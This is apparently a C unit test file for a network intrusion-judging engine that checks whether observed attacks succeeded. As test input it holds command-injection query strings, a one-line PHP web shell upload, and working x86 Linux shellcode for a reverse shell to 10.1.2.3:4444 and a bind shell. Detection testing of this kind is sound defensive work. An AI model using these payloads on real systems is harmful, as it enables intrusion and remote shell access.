/* Suspects wait in the packets' own time for what they may cause, then are judged and told. */
#include "../observe/exchange/talk.h"

#include "base/buffer.h"
#include "engine/judge.h"
#include "engine/judge_lately.h"
#include "engine/occurrence_table.h"

static const char *helper; /* that runs machine code */

struct bench {
    struct judge *judge;
    struct talk *talk;
    struct buffer told; /* a line each: target, class, outcome, alerts */
};

static int judged(void *context, const struct judgement *judgement)
{
    struct bench *bench = context;
    buffer_put(&bench->told, judgement->exchange->target);
    buffer_put_format(&bench->told, " %s %s %u\n", attack_class_name(judgement->verdict->class),
                      attack_outcome_name(judgement->verdict->outcome), judgement->alert_count);
    return 0;
}

static int take(void *context, const struct packets *packets)
{
    return judge_packets(((struct bench *)context)->judge, packets);
}

static int set_up(void **state)
{
    struct bench *bench = calloc(1, sizeof(*bench));
    const struct judge_options options = {
        .wait = 30 * TIME_SECOND, .helper = helper, .judged = judged, .context = bench};
    *state = bench;
    bench->talk = talk_new(take, bench);
    return judge_new(&options, &bench->judge);
}

static int tear_down(void **state)
{
    struct bench *bench = *state;
    judge_free(bench->judge);
    buffer_finish(&bench->told);
    free(bench->talk);
    free(bench);
    return 0;
}

static void expect(struct bench *bench, const char *text)
{
    assert_int_equal(talk_hand(bench->talk), 0);
    buffer_put_char(&bench->told, 0);
    assert_string_equal(bench->told.at, text);
    buffer_clear(&bench->told);
}

/* One request with its answer on a connection of its own. */
static void ask(struct bench *bench, uint16_t port, const char *request, const char *answer)
{
    struct talk_line line = line_open(bench->talk, port);
    line_say(&line, 0, bytes_of(request));
    line_say(&line, 1, bytes_of(answer));
    line_close(&line);
}

#define ASK(target)  "GET " target " HTTP/1.1\r\nHost: h\r\n\r\n"
#define ANSWER(body) "HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n" body

/* The victim pings somebody. */
static void ping(struct bench *bench, uint32_t to)
{
    uint32_t row = talk_row(bench->talk, PROTOCOL_icmp, TALK_SERVER, to);
    bench->talk->packets.has[row] = PACKET_ICMP;
    bench->talk->packets.icmp_type[row] = 8;
}

static void pass(struct bench *bench, int seconds)
{
    bench->talk->time += seconds * TIME_SECOND;
    (void)talk_row(bench->talk, 99, 1, 2); /* a packet of no interest tells the time */
}

static void harmless_requests_are_told_at_once(void **state)
{
    struct bench *bench = *state;
    ask(bench, 4000, ASK("/a"), ANSWER("hello"));
    expect(bench, "/a none benign 0\n");
}

static void a_suspect_waits_for_what_it_may_cause(void **state)
{
    struct bench *bench = *state;
    ask(bench, 4000, ASK("/p?h=;ping+-c1+10.9.8.7"), ANSWER("x"));
    expect(bench, "");
    pass(bench, 20);
    ping(bench, 0x0a090807);
    expect(bench, "");
    pass(bench, 11);
    expect(bench, "/p?h=;ping+-c1+10.9.8.7 command_injection success 0\n");
}

static void what_comes_after_the_wait_is_too_late(void **state)
{
    struct bench *bench = *state;
    ask(bench, 4000, ASK("/p?h=;ping+-c1+10.9.8.7"), ANSWER("x"));
    pass(bench, 31);
    expect(bench, "/p?h=;ping+-c1+10.9.8.7 command_injection unknown 0\n");
    ping(bench, 0x0a090807);
    assert_int_equal(judge_flush(bench->judge), 0);
    expect(bench, "");
}

/* However packets come in batches: what was judged at its time did not know what came later. */
static void a_suspect_is_judged_at_its_time_within_a_batch(void **state)
{
    struct bench *bench = *state;
    ask(bench, 4000, ASK("/p?h=;ping+-c1+10.9.8.7"), ANSWER("x"));
    pass(bench, 31);
    ask(bench, 4001, ASK("/later"), ANSWER("x"));
    expect(bench, "/p?h=;ping+-c1+10.9.8.7 command_injection unknown 0\n/later none benign 0\n");
}

static void a_silent_wire_has_a_clock(void **state)
{
    struct bench *bench = *state;
    ask(bench, 4000, ASK("/p?h=;id"), ANSWER("<pre>uid=0(root) gid=0(root)</pre>"));
    expect(bench, "");
    assert_int_equal(judge_clock(bench->judge, bench->talk->time + 29 * TIME_SECOND), 0);
    expect(bench, "");
    assert_int_equal(judge_clock(bench->judge, bench->talk->time + 31 * TIME_SECOND), 0);
    expect(bench, "/p?h=;id command_injection success 0\n");
}

static void two_attacks_that_want_the_same_prove_nothing_of_each_other(void **state)
{
    struct bench *bench = *state;
    ask(bench, 4000, ASK("/a?h=;ping+-c1+10.9.8.7"), ANSWER("x"));
    ask(bench, 4001, ASK("/b?h=;ping+-c1+10.9.8.7"), ANSWER("x"));
    pass(bench, 2);
    ping(bench, 0x0a090807);
    pass(bench, 31);
    expect(bench, "/a?h=;ping+-c1+10.9.8.7 command_injection unknown 0\n"
                  "/b?h=;ping+-c1+10.9.8.7 command_injection unknown 0\n");
}

static void a_dropped_file_that_is_asked_for_later_is_proof(void **state)
{
    struct bench *bench = *state;
    ask(bench, 4000,
        "PUT /up/a1b2.php HTTP/1.1\r\nHost: h\r\nContent-Length: 26\r\n\r\n"
        "<?php system($_GET['c']);?",
        ANSWER("created"));
    ask(bench, 4001, ASK("/up/a1b2.php"), ANSWER("ok"));
    pass(bench, 31);
    expect(bench, "/up/a1b2.php none benign 0\n/up/a1b2.php web_shell success 0\n");
}

static struct alert alert_of(uint16_t port, int64_t time)
{
    return (struct alert){.time = time,
                          .source_ip = talk_ip(TALK_SERVER), /* some sensors turn it round */
                          .destination_ip = talk_ip(TALK_CLIENT),
                          .source_port = 80,
                          .destination_port = port};
}

static void alerts_are_told_with_their_exchange(void **state)
{
    struct bench *bench = *state;
    int64_t now = bench->talk->time;
    struct alert one = alert_of(4000, now), late = alert_of(4000, now + 60 * TIME_SECOND),
                 other = alert_of(4001, now);
    assert_int_equal(judge_alert(bench->judge, &one), 0);
    assert_int_equal(judge_alert(bench->judge, &late), 0);
    assert_int_equal(judge_alert(bench->judge, &other), 0);
    ask(bench, 4000, ASK("/p?h=;id"), ANSWER("<pre>uid=0(root) gid=0(root)</pre>"));
    pass(bench, 31);
    expect(bench, "/p?h=;id command_injection success 1\n");
    assert_int_equal(judge_flush(bench->judge), 0);
    expect(bench, " other unknown 1\n other unknown 1\n");
}

static void alerts_are_forgotten(void **state)
{
    struct bench *bench = *state;
    int64_t now = bench->talk->time;
    struct alert old = alert_of(4000, now - 1), one = alert_of(4000, now);
    assert_int_equal(judge_alert(bench->judge, &old), 0);
    assert_int_equal(judge_alert(bench->judge, &one), 0);
    judge_forget_alerts(bench->judge, now);
    ask(bench, 4000, ASK("/a"), ANSWER("hello"));
    expect(bench, "/a none benign 1\n");
    judge_forget_alerts(bench->judge, now + TIME_SECOND);
    assert_int_equal(judge_flush(bench->judge), 0);
    expect(bench, "");
}

static struct exchange exchange_of(uint16_t port, int64_t start)
{
    return (struct exchange){.source_ip = talk_ip(TALK_CLIENT),
                             .destination_ip = talk_ip(TALK_SERVER),
                             .source_port = port,
                             .destination_port = 80,
                             .request = {.start = start, .end = start},
                             .response = {.start = start, .end = start + TIME_SECOND}};
}

static void what_was_said_is_found_by_alerts_that_come_later(void **state)
{
    (void)state;
    struct judge_lately *lately;
    struct alert_verdict verdict;
    static const char *const texts[] = {"{\"a\":1}", "{\"b\":2}", ""};
    assert_int_equal(judge_lately_new(&lately), 0);
    for (int i = 0; i < 3; i++) {
        struct exchange exchange = exchange_of(4000, i * 10 * TIME_SECOND);
        verdict = (struct alert_verdict){OUTCOME_failed, ATTACK_jndi, i, bytes_of(texts[i])};
        assert_int_equal(judge_lately_keep(lately, &exchange, &verdict), 0);
    }
    struct alert alert = alert_of(4000, 12 * TIME_SECOND);
    assert_true(judge_lately_find(lately, &alert, &verdict));
    assert_true(verdict.confidence == 1 && bytes_equal(verdict.proof_json, bytes_of(texts[1])));
    alert = alert_of(4000, 13 * TIME_SECOND);
    assert_false(judge_lately_find(lately, &alert, &verdict));
    alert = alert_of(4001, 12 * TIME_SECOND);
    assert_false(judge_lately_find(lately, &alert, &verdict));
    verdict.proof_json = (struct bytes){0};
    for (uint32_t i = 0; i < JUDGE_LATELY - 1; i++) { /* all but the last of the three go */
        struct exchange exchange = exchange_of((uint16_t)(5000 + i % 50), i);
        assert_int_equal(judge_lately_keep(lately, &exchange, &verdict), 0);
    }
    alert = alert_of(4000, 12 * TIME_SECOND);
    assert_false(judge_lately_find(lately, &alert, &verdict));
    alert = alert_of(4000, 21 * TIME_SECOND);
    assert_true(judge_lately_find(lately, &alert, &verdict) && verdict.confidence == 2);
    judge_lately_free(lately);
}

static void the_oldest_is_judged_early_when_too_many_wait(void **state)
{
    struct bench *bench = *state;
    static const char text[] = ASK("/p?h=;id"), answer[] = ANSWER("");
    for (uint32_t i = 0; i < JUDGE_PENDING + 3; i++)
        ask(bench, (uint16_t)(1024 + i), text, answer);
    assert_int_equal(talk_hand(bench->talk), 0);
    assert_true(judge_counts(bench->judge)->judged > 0);
    assert_int_equal(judge_flush(bench->judge), 0);
    assert_int_equal(judge_counts(bench->judge)->judged, JUDGE_PENDING + 3);
}

/* Linux on x86: connect to 10.1.2.3:4444, or listen on 4444; then run /bin/sh. */
#define SHELL                                                                                      \
    "\x31\xc0\x50\x68\x6e\x2f\x73\x68\x68\x2f\x2f\x62\x69\x89\xe3\x50\x53\x89\xe1\x99\xb0\x0b"     \
    "\xcd\x80"
#define SOCKET "\x31\xdb\x53\x43\x53\x6a\x02\x89\xe1\x6a\x66\x58\xcd\x80\x96"
#define CONNECT_BACK                                                                               \
    SOCKET "\x68\x0a\x01\x02\x03\x66\x68\x11\x5c\x66\x6a\x02\x89\xe1\x6a\x10\x51\x56\x89\xe1"      \
           "\x6a\x03\x5b\x6a\x66\x58\xcd\x80" SHELL
#define LISTEN                                                                                     \
    SOCKET "\x31\xd2\x52\x66\x68\x11\x5c\x66\x6a\x02\x89\xe1\x6a\x10\x51\x56\x89\xe1\x6a\x02\x5b"  \
           "\x6a\x66\x58\xcd\x80\x6a\x01\x56\x89\xe1\x6a\x04\x5b\x6a\x66\x58\xcd\x80\x52\x52\x56"  \
           "\x89\xe1\x6a\x05\x5b\x6a\x66\x58\xcd\x80" SHELL
#define FILLING "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\xef\xbe\xad\xde\x90\x90\x90\x90"

/* What a client of another protocol says, to which the server falls silent. */
static void overflow(struct bench *bench, uint16_t port, struct bytes request)
{
    struct talk_line line = line_open(bench->talk, port);
    line_say(&line, 0, request);
    line_close(&line);
}

/* A connection to the victim's port 4444, which answers or doesn't. */
static void enter(struct bench *bench, bool answers)
{
    struct talk_line line = {bench->talk, TALK_CLIENT, TALK_SERVER, 5000, 4444, {1, 1}};
    line_put(&line, 0, 0, TCP_SYN, (struct bytes){0}, 0);
    if (answers)
        line_put(&line, 1, 0, TCP_SYN | TCP_ACK, (struct bytes){0}, 0);
}

static void machine_code_is_judged_by_what_it_would_connect_to(void **state)
{
    struct bench *bench = *state;
    overflow(bench, 4000, BYTES("USER " FILLING CONNECT_BACK "\r\n"));
    struct talk_line back = {bench->talk, TALK_SERVER, 0x0a010203, 3000, 4444, {1, 1}};
    line_put(&back, 0, 0, TCP_SYN, (struct bytes){0}, 0);
    pass(bench, 31);
    expect(bench, " shellcode success 0\n");
    assert_int_equal(judge_code_counts(bench->judge)->explained, 1);
    pass(bench, 31);
    /* in a header, and no connection; and what only looks like code */
    ask(bench, 4001, "GET /x HTTP/1.0\r\nHost: h\r\nUser-Agent: " FILLING CONNECT_BACK "\r\n\r\n",
        "");
    overflow(bench, 4002, BYTES("\x31\xc0\xb0\x01\xcd\x80\xe8\xf0\xff\xff\xff\0\0\0\0"));
    pass(bench, 31);
    expect(bench, " none benign 0\n/x shellcode unknown 0\n");
    assert_int_equal(judge_code_counts(bench->judge)->explained, 2);
    for (uint16_t i = 0; i < 100; i++)
        overflow(bench, (uint16_t)(5000 + i), BYTES("USER " CONNECT_BACK "\r\n"));
    assert_int_equal(talk_hand(bench->talk), 0);
    assert_int_equal(judge_code_counts(bench->judge)->explained, 2 + CODE_RUNS_A_SECOND);
    assert_true(judge_code_counts(bench->judge)->skipped >= 100 - CODE_RUNS_A_SECOND);
}

static void a_port_it_opens_is_proof_when_it_answers(void **state)
{
    struct bench *bench = *state;
    overflow(bench, 4000, BYTES("USER " FILLING LISTEN "\r\n"));
    enter(bench, false);
    pass(bench, 31);
    expect(bench, " shellcode unknown 0\n");
    overflow(bench, 4001, BYTES("USER " FILLING LISTEN "\r\n"));
    enter(bench, true);
    pass(bench, 31);
    expect(bench, " shellcode success 0\n");
    /* now the port is known to answer, so that it does so proves nothing any more */
    pass(bench, 31);
    overflow(bench, 4002, BYTES("USER " FILLING LISTEN "\r\n"));
    enter(bench, true);
    pass(bench, 31);
    expect(bench, " shellcode unknown 0\n");
}

static struct occurrence occurrence_of(uint32_t host, int64_t time, enum occurrence_kind kind,
                                       const char *text)
{
    return (struct occurrence){.kind = kind,
                               .time = time,
                               .source_ip = talk_ip(host),
                               .text = bytes_of(text),
                               .host = BYTES("h")};
}

static void what_a_host_did_is_found_in_order(void **state)
{
    (void)state;
    struct occurrence_table *table;
    struct arena arena = {0};
    const struct occurrence *at;
    size_t count;
    struct ip host = talk_ip(1);
    assert_int_equal(occurrence_table_new(&table), 0);
    assert_false(occurrence_table_knows(table, &host));
    const struct occurrence all[] = {occurrence_of(1, 10, OCCURRENCE_request, "/old"),
                                     occurrence_of(1, 20, OCCURRENCE_request, "/a"),
                                     occurrence_of(2, 21, OCCURRENCE_request, "/not"),
                                     occurrence_of(2, 22, OCCURRENCE_dns, "name"),
                                     occurrence_of(1, 23, OCCURRENCE_dns, "own")};
    for (size_t i = 0; i < 5; i++)
        assert_int_equal(occurrence_table_add(table, &all[i]), 0);
    assert_int_equal(occurrence_table_find(table, &host, 15, &arena, &at, &count), 0);
    assert_int_equal(count, 3);
    assert_true(bytes_equal(at[0].text, BYTES("/a")) && bytes_equal(at[0].host, BYTES("h")));
    assert_true(bytes_equal(at[1].text, BYTES("name")));
    assert_true(bytes_equal(at[2].text, BYTES("own")));
    assert_true(occurrence_table_knows(table, &host));
    struct occurrence more = occurrence_of(3, 30, OCCURRENCE_connection, "");
    for (uint32_t i = 0; i < OCCURRENCES_KEPT; i++)
        assert_int_equal(occurrence_table_add(table, &more), 0);
    assert_false(occurrence_table_knows(table, &host)); /* overwritten, and counted */
    assert_int_equal(occurrence_table_overwritten(table), 5);
    host = talk_ip(3);
    assert_int_equal(occurrence_table_find(table, &host, 0, &arena, &at, &count), 0);
    assert_int_equal(count, OCCURRENCES_ANSWERED);
    arena_finish(&arena);
    occurrence_table_free(table);
}

int main(int argc, char **argv)
{
    helper = argc > 1 ? argv[1] : NULL;
#define CASE(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)
    const struct CMUnitTest tests[] = {
        CASE(harmless_requests_are_told_at_once),
        CASE(a_suspect_waits_for_what_it_may_cause),
        CASE(what_comes_after_the_wait_is_too_late),
        CASE(a_suspect_is_judged_at_its_time_within_a_batch),
        CASE(a_silent_wire_has_a_clock),
        CASE(two_attacks_that_want_the_same_prove_nothing_of_each_other),
        CASE(a_dropped_file_that_is_asked_for_later_is_proof),
        CASE(alerts_are_told_with_their_exchange),
        CASE(alerts_are_forgotten),
        cmocka_unit_test(what_was_said_is_found_by_alerts_that_come_later),
        CASE(the_oldest_is_judged_early_when_too_many_wait),
        CASE(machine_code_is_judged_by_what_it_would_connect_to),
        CASE(a_port_it_opens_is_proof_when_it_answers),
        cmocka_unit_test(what_a_host_did_is_found_in_order),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
